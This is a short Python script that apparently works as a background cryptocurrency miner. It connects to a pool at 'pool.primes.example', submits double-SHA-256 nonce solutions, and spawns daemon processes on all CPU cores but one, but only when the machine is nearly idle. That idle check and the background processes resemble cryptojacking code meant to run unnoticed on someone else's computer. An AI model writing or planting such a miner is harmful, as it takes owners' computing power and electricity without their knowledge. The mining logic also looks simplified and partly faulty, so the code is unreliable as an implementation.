import hashlib
import json
import multiprocessing as mp
import socket
import struct

import psutil

POOL = ("pool.primes.example", 3333)


def work():
    conn = socket.create_connection(POOL)
    conn.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": []}).encode() + b"\n")
    job = json.loads(conn.makefile().readline())["result"]
    header = bytes.fromhex(job[1])
    for nonce in range(2**32):
        d = hashlib.sha256(hashlib.sha256(header + struct.pack("<I", nonce)).digest()).digest()
        if d.endswith(b"\0\0\0\0"):
            conn.sendall(json.dumps({"id": 4, "method": "mining.submit", "params": ["w1", job[0], nonce]}).encode() + b"\n")


def start():
    if psutil.cpu_percent(1) < 20:
        for _ in range(mp.cpu_count() - 1):
            mp.Process(target=work, daemon=True).start()
